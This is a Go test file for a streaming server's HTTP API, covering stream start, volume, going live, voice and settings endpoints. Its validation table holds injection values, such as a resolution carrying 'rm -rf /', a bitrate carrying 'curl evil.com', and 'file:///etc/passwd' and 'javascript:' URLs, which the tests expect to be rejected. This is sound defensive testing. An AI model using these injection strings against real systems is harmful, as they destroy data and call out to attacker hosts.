package api

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/milady-ai/streamnode/internal/destination"
	"github.com/milady-ai/streamnode/internal/encoder"
	"github.com/milady-ai/streamnode/internal/events"
	"github.com/milady-ai/streamnode/internal/pipeline"
	"github.com/milady-ai/streamnode/internal/settings"
	"github.com/milady-ai/streamnode/internal/voice"
)

// fakeEncoder is a test implementation of encoder.Supervisor.
type fakeEncoder struct {
	mu         sync.Mutex
	running    bool
	volume     int
	muted      bool
	frames     int64
	lastConfig encoder.Config
}

func (f *fakeEncoder) Start(ctx context.Context, cfg encoder.Config) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.running = true
	f.lastConfig = cfg
	f.volume = cfg.Volume
	return nil
}

func (f *fakeEncoder) Stop(ctx context.Context) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.running = false
	return nil
}

func (f *fakeEncoder) IsRunning() bool {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.running
}

func (f *fakeEncoder) Health() encoder.Health {
	f.mu.Lock()
	defer f.mu.Unlock()
	return encoder.Health{
		Running:     f.running,
		Volume:      f.volume,
		Muted:       f.muted,
		FrameCount:  f.frames,
		AudioSource: f.lastConfig.AudioSource,
		CaptureMode: f.lastConfig.InputMode,
	}
}

func (f *fakeEncoder) WriteFrame(frame []byte) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.frames++
	return nil
}

func (f *fakeEncoder) SetVolume(v int) (int, bool, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.volume = v
	return f.volume, f.muted, nil
}

func (f *fakeEncoder) Mute() error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.muted = true
	return nil
}

func (f *fakeEncoder) Unmute() error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.muted = false
	return nil
}

type blockingSpeaker struct {
	release chan struct{}
}

func (s *blockingSpeaker) Speak(ctx context.Context, text string) error {
	<-s.release
	return nil
}

type testServer struct {
	server  *Server
	encoder *fakeEncoder
	speaker *blockingSpeaker
	gate    *voice.Gate
	bus     *events.Bus
}

func newTestServer(t *testing.T) *testServer {
	t.Helper()
	t.Setenv("STREAMNODE_CAPTURE_MODE", "native-grab")
	t.Setenv("STREAMNODE_RTMP_URL", "rtmp://ingest.example.test/live")
	t.Setenv("STREAMNODE_RTMP_KEY", "k")

	enc := &fakeEncoder{}
	registry := destination.NewRegistry()
	registry.Register(destination.NewCustomRTMP())
	bus := events.New()

	store, err := settings.NewStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}

	orch := pipeline.New(enc, registry, nil, nil, bus, t.TempDir())
	speaker := &blockingSpeaker{release: make(chan struct{})}
	gate := voice.NewGate(speaker, store, bus, orch.Running)

	server := NewServer(&Options{
		Orchestrator: orch,
		Encoder:      enc,
		Registry:     registry,
		Store:        store,
		Gate:         gate,
		Bus:          bus,
	})
	t.Cleanup(func() {
		select {
		case <-speaker.release:
		default:
			close(speaker.release)
		}
	})
	return &testServer{server: server, encoder: enc, speaker: speaker, gate: gate, bus: bus}
}

func (ts *testServer) do(t *testing.T, method, path string, body []byte, contentType string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest(method, path, bytes.NewReader(body))
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	rec := httptest.NewRecorder()
	ts.server.GetMux().ServeHTTP(rec, req)
	return rec
}

func (ts *testServer) doJSON(t *testing.T, method, path string, payload any) *httptest.ResponseRecorder {
	t.Helper()
	var body []byte
	if payload != nil {
		var err error
		body, err = json.Marshal(payload)
		if err != nil {
			t.Fatal(err)
		}
	}
	return ts.do(t, method, path, body, "application/json")
}

func decodeBody(t *testing.T, rec *httptest.ResponseRecorder) map[string]any {
	t.Helper()
	var out map[string]any
	if err := json.Unmarshal(rec.Body.Bytes(), &out); err != nil {
		t.Fatalf("decoding %q: %v", rec.Body.String(), err)
	}
	return out
}

func TestHealthEndpoint(t *testing.T) {
	ts := newTestServer(t)
	rec := ts.do(t, http.MethodGet, "/api/health", nil, "")
	if rec.Code != http.StatusOK {
		t.Fatalf("status = %d", rec.Code)
	}
}

func TestStartValidation(t *testing.T) {
	ts := newTestServer(t)
	tests := []struct {
		name    string
		payload map[string]any
		want    int
	}{
		{"missing url", map[string]any{"remoteKey": "k"}, 400},
		{"missing key", map[string]any{"remoteUrl": "rtmp://x/live"}, 400},
		{"http scheme", map[string]any{"remoteUrl": "http://x/live", "remoteKey": "k"}, 400},
		{"file scheme", map[string]any{"remoteUrl": "file:///etc/passwd", "remoteKey": "k"}, 400},
		{"javascript scheme", map[string]any{"remoteUrl": "javascript:alert(1)", "remoteKey": "k"}, 400},
		{"bad resolution", map[string]any{"remoteUrl": "rtmp://x/live", "remoteKey": "k", "resolution": "wide"}, 400},
		{"resolution shell injection", map[string]any{"remoteUrl": "rtmp://x/live", "remoteKey": "k", "resolution": "1280x720;rm -rf /"}, 400},
		{"bad bitrate", map[string]any{"remoteUrl": "rtmp://x/live", "remoteKey": "k", "bitrate": "2500"}, 400},
		{"bitrate shell injection", map[string]any{"remoteUrl": "rtmp://x/live", "remoteKey": "k", "bitrate": "2500k && curl evil.com"}, 400},
		{"bad input mode", map[string]any{"remoteUrl": "rtmp://x/live", "remoteKey": "k", "inputMode": "webcam"}, 400},
		{"fractional framerate", map[string]any{"remoteUrl": "rtmp://x/live", "remoteKey": "k", "framerate": 30.5}, 400},
		{"framerate too high", map[string]any{"remoteUrl": "rtmp://x/live", "remoteKey": "k", "framerate": 61}, 400},
		{"framerate zero", map[string]any{"remoteUrl": "rtmp://x/live", "remoteKey": "k", "framerate": 0}, 400},
		{"rtmps ok", map[string]any{"remoteUrl": "rtmps://x/live", "remoteKey": "k"}, 200},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec := ts.doJSON(t, http.MethodPost, "/stream/start", tt.payload)
			if rec.Code != tt.want {
				t.Errorf("status = %d, want %d: %s", rec.Code, tt.want, rec.Body.String())
			}
		})
	}
}

func TestStartDefaults(t *testing.T) {
	ts := newTestServer(t)
	rec := ts.doJSON(t, http.MethodPost, "/stream/start", map[string]any{
		"remoteUrl": "rtmp://live.example.com/app",
		"remoteKey": "k",
	})
	if rec.Code != http.StatusOK {
		t.Fatalf("status = %d: %s", rec.Code, rec.Body.String())
	}
	cfg := ts.encoder.lastConfig
	if cfg.InputMode != "testsrc" || cfg.Resolution != "1280x720" || cfg.Bitrate != "2500k" || cfg.Framerate != 30 {
		t.Errorf("config = %+v", cfg)
	}
}

func TestFrameIngestion(t *testing.T) {
	ts := newTestServer(t)

	rec := ts.do(t, http.MethodPost, "/stream/frame", []byte("frame"), "application/octet-stream")
	if rec.Code != http.StatusServiceUnavailable {
		t.Errorf("not running status = %d", rec.Code)
	}

	ts.encoder.running = true

	rec = ts.do(t, http.MethodPost, "/stream/frame", nil, "application/octet-stream")
	if rec.Code != http.StatusBadRequest {
		t.Errorf("empty body status = %d", rec.Code)
	}

	rec = ts.do(t, http.MethodPost, "/stream/frame", []byte("frame"), "application/octet-stream")
	if rec.Code != http.StatusOK {
		t.Errorf("ingest status = %d: %s", rec.Code, rec.Body.String())
	}
}

func TestVolumeValidation(t *testing.T) {
	ts := newTestServer(t)
	tests := []struct {
		name    string
		payload map[string]any
		want    int
	}{
		{"string", map[string]any{"volume": "50"}, 400},
		{"null", map[string]any{"volume": nil}, 400},
		{"missing", map[string]any{}, 400},
		{"negative", map[string]any{"volume": -1}, 400},
		{"over max", map[string]any{"volume": 101}, 400},
		{"zero", map[string]any{"volume": 0}, 200},
		{"max", map[string]any{"volume": 100}, 200},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec := ts.doJSON(t, http.MethodPost, "/stream/volume", tt.payload)
			if rec.Code != tt.want {
				t.Errorf("status = %d, want %d: %s", rec.Code, tt.want, rec.Body.String())
			}
		})
	}
}

func TestMuteUnmute(t *testing.T) {
	ts := newTestServer(t)

	rec := ts.doJSON(t, http.MethodPost, "/stream/mute", nil)
	if rec.Code != http.StatusOK {
		t.Fatalf("mute status = %d", rec.Code)
	}
	if body := decodeBody(t, rec); body["muted"] != true {
		t.Errorf("mute body = %v", body)
	}

	rec = ts.doJSON(t, http.MethodPost, "/stream/unmute", nil)
	if body := decodeBody(t, rec); body["muted"] != false {
		t.Errorf("unmute body = %v", body)
	}
}

func TestGoLiveLifecycle(t *testing.T) {
	ts := newTestServer(t)

	rec := ts.doJSON(t, http.MethodPost, "/stream/live", nil)
	if rec.Code != http.StatusOK {
		t.Fatalf("live status = %d: %s", rec.Code, rec.Body.String())
	}
	body := decodeBody(t, rec)
	if body["live"] != true || body["mode"] != "native-grab" {
		t.Errorf("live body = %v", body)
	}

	// Second call is idempotent.
	rec = ts.doJSON(t, http.MethodPost, "/stream/live", nil)
	if rec.Code != http.StatusOK {
		t.Fatalf("second live status = %d", rec.Code)
	}
	if body := decodeBody(t, rec); body["message"] != "Already streaming" {
		t.Errorf("second live body = %v", body)
	}

	rec = ts.doJSON(t, http.MethodPost, "/stream/offline", nil)
	if rec.Code != http.StatusOK {
		t.Fatalf("offline status = %d", rec.Code)
	}
	if body := decodeBody(t, rec); body["live"] != false {
		t.Errorf("offline body = %v", body)
	}

	// Offline while already stopped is a no-op success.
	rec = ts.doJSON(t, http.MethodPost, "/stream/offline", nil)
	if rec.Code != http.StatusOK {
		t.Errorf("repeat offline status = %d", rec.Code)
	}
}

func TestGoLiveWithoutDestination(t *testing.T) {
	ts := newTestServer(t)
	ts.server.opts.Orchestrator = pipeline.New(ts.encoder, destination.NewRegistry(), nil, nil, ts.bus, t.TempDir())

	rec := ts.doJSON(t, http.MethodPost, "/stream/live", nil)
	if rec.Code != http.StatusBadRequest {
		t.Errorf("status = %d, want 400", rec.Code)
	}
}

func TestStatusEndpoint(t *testing.T) {
	ts := newTestServer(t)
	rec := ts.do(t, http.MethodGet, "/stream/status", nil, "")
	if rec.Code != http.StatusOK {
		t.Fatalf("status = %d", rec.Code)
	}
	body := decodeBody(t, rec)
	if body["running"] != false {
		t.Errorf("running = %v", body["running"])
	}
	dest, ok := body["destination"].(map[string]any)
	if !ok || dest["id"] != "custom-rtmp" {
		t.Errorf("destination = %v", body["destination"])
	}
}

func TestDestinationEndpoints(t *testing.T) {
	ts := newTestServer(t)

	rec := ts.do(t, http.MethodGet, "/streaming/destinations", nil, "")
	if rec.Code != http.StatusOK {
		t.Fatalf("list status = %d", rec.Code)
	}
	body := decodeBody(t, rec)
	dests, ok := body["destinations"].([]any)
	if !ok || len(dests) != 1 {
		t.Fatalf("destinations = %v", body["destinations"])
	}

	rec = ts.doJSON(t, http.MethodPost, "/streaming/destination", map[string]any{})
	if rec.Code != http.StatusBadRequest {
		t.Errorf("missing id status = %d", rec.Code)
	}

	rec = ts.doJSON(t, http.MethodPost, "/streaming/destination", map[string]any{"destinationId": "youtube"})
	if rec.Code != http.StatusNotFound {
		t.Errorf("unknown id status = %d", rec.Code)
	}

	rec = ts.doJSON(t, http.MethodPost, "/streaming/destination", map[string]any{"destinationId": "custom-rtmp"})
	if rec.Code != http.StatusOK {
		t.Errorf("matching id status = %d: %s", rec.Code, rec.Body.String())
	}
}

func TestSpeakEndpoint(t *testing.T) {
	ts := newTestServer(t)

	// Not attached until the pipeline starts.
	rec := ts.doJSON(t, http.MethodPost, "/stream/voice/speak", map[string]any{"text": "hello"})
	if rec.Code != http.StatusBadRequest {
		t.Errorf("detached status = %d", rec.Code)
	}

	if rec := ts.doJSON(t, http.MethodPost, "/stream/live", nil); rec.Code != http.StatusOK {
		t.Fatalf("live status = %d", rec.Code)
	}
	waitForAttach(t, ts)

	rec = ts.doJSON(t, http.MethodPost, "/stream/voice/speak", map[string]any{"text": ""})
	if rec.Code != http.StatusBadRequest {
		t.Errorf("empty text status = %d", rec.Code)
	}

	rec = ts.doJSON(t, http.MethodPost, "/stream/voice/speak", map[string]any{"text": strings.Repeat("a", 2001)})
	if rec.Code != http.StatusBadRequest {
		t.Errorf("over-limit status = %d", rec.Code)
	}

	rec = ts.doJSON(t, http.MethodPost, "/stream/voice/speak", map[string]any{"text": "hello"})
	if rec.Code != http.StatusOK {
		t.Fatalf("speak status = %d: %s", rec.Code, rec.Body.String())
	}
	if body := decodeBody(t, rec); body["speaking"] != true {
		t.Errorf("speak body = %v", body)
	}

	// Second utterance while the first is in flight.
	rec = ts.doJSON(t, http.MethodPost, "/stream/voice/speak", map[string]any{"text": "again"})
	if rec.Code != http.StatusTooManyRequests {
		t.Errorf("concurrent status = %d", rec.Code)
	}
}

// waitForAttach waits for the bus to deliver the pipeline-started event to
// the gate, which happens asynchronously.
func waitForAttach(t *testing.T, ts *testServer) {
	t.Helper()
	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		if ts.gate.Attached() {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatal("gate never attached")
}

func TestVoiceSettingsEndpoints(t *testing.T) {
	ts := newTestServer(t)

	rec := ts.do(t, http.MethodGet, "/stream/voice", nil, "")
	if rec.Code != http.StatusOK {
		t.Fatalf("get status = %d", rec.Code)
	}
	if body := decodeBody(t, rec); body["enabled"] != false {
		t.Errorf("default enabled = %v", body["enabled"])
	}

	rec = ts.doJSON(t, http.MethodPost, "/stream/voice", map[string]any{"enabled": true, "provider": "elevenlabs"})
	if rec.Code != http.StatusOK {
		t.Fatalf("update status = %d: %s", rec.Code, rec.Body.String())
	}

	rec = ts.do(t, http.MethodGet, "/stream/voice", nil, "")
	body := decodeBody(t, rec)
	if body["enabled"] != true || body["provider"] != "elevenlabs" {
		t.Errorf("persisted voice settings = %v", body)
	}
}

func TestSettingsEndpoints(t *testing.T) {
	ts := newTestServer(t)

	rec := ts.doJSON(t, http.MethodPost, "/stream/settings", map[string]any{"theme": "dark", "avatarIndex": 3})
	if rec.Code != http.StatusOK {
		t.Fatalf("update status = %d: %s", rec.Code, rec.Body.String())
	}

	rec = ts.doJSON(t, http.MethodPost, "/stream/settings", map[string]any{"injected": "x"})
	if rec.Code != http.StatusBadRequest {
		t.Errorf("unknown key status = %d", rec.Code)
	}

	rec = ts.do(t, http.MethodGet, "/stream/settings", nil, "")
	if rec.Code != http.StatusOK {
		t.Fatalf("get status = %d", rec.Code)
	}
	if body := decodeBody(t, rec); body["theme"] != "dark" {
		t.Errorf("settings = %v", body)
	}
}

func TestOverlayEndpoints(t *testing.T) {
	ts := newTestServer(t)

	// Nothing persisted: the destination's built-in layout resolves.
	rec := ts.do(t, http.MethodGet, "/stream/overlay?destinationId=custom-rtmp", nil, "")
	if rec.Code != http.StatusOK {
		t.Fatalf("get status = %d", rec.Code)
	}
	if body := decodeBody(t, rec); body["version"] != float64(1) {
		t.Errorf("builtin layout = %v", body)
	}

	layout := map[string]any{"version": 1, "widgets": []any{}}
	rec = ts.doJSON(t, http.MethodPost, "/stream/overlay?destinationId=custom-rtmp", layout)
	if rec.Code != http.StatusOK {
		t.Fatalf("save status = %d: %s", rec.Code, rec.Body.String())
	}

	rec = ts.do(t, http.MethodGet, "/stream/overlay?destinationId=custom-rtmp", nil, "")
	body := decodeBody(t, rec)
	if widgets, ok := body["widgets"].([]any); !ok || len(widgets) != 0 {
		t.Errorf("persisted layout = %v", body)
	}
}
